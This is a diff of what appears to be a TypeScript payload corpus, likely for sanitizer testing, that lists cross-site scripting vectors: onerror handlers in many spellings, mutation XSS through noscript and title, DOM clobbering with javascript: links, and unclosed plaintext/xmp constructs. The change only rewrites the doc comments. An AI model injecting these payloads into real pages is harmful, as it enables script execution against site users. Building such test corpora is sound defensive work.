@@ -1,6 +1,6 @@
 import { type Recipe, written } from "./attack-recipe.ts";
 
-/** One attack in every way of writing it down that some parser reads. */
+/** One attack in all the spellings that parsers accept. */
 export const spellings: Recipe[] = [
   '<img src="x" onerror="RUN">',
   "<img src='x' onerror='RUN'>",
@@ -54,7 +54,7 @@ export const spellings: Recipe[] = [
   "\u00c0\u00bcscript>RUN</script>",
 ].map(written);
 
-/** What is read differently the second time, or by two parsers. */
+/** Mutation XSS: markup that changes when parsed again, or by another parser. */
 export const mutations: Recipe[] = [
   "<noscript><p title='</noscript><img src=/media/x onerror=RUN>'></p></noscript>",
   "<title><p title='</title><img src=/media/x onerror=RUN>'></title>",
@@ -106,7 +106,7 @@ export const mutations: Recipe[] = [
   "<x is=x><slot onslotchange=RUN></slot></x>",
 ].map(written);
 
-/** Names that would stand in for properties of the page, and a way to run something once they do. */
+/** DOM clobbering: names that replace properties of the document. */
 export const clobbers: Recipe[] = [
   ...[
     "root",
@@ -128,7 +128,7 @@ export const clobbers: Recipe[] = [
   "<iframe name=frames srcdoc='<a id=top href=javascript:RUN>x</a>'></iframe>",
 ].map(written);
 
-/** What has no end: everything after it would be part of it. */
+/** Unclosed constructs that swallow what follows. */
 export const unended: Recipe[] = [
   "<plaintext><img src=/media/x onerror=RUN>",
   "<xmp><img src=/media/x onerror=RUN>",
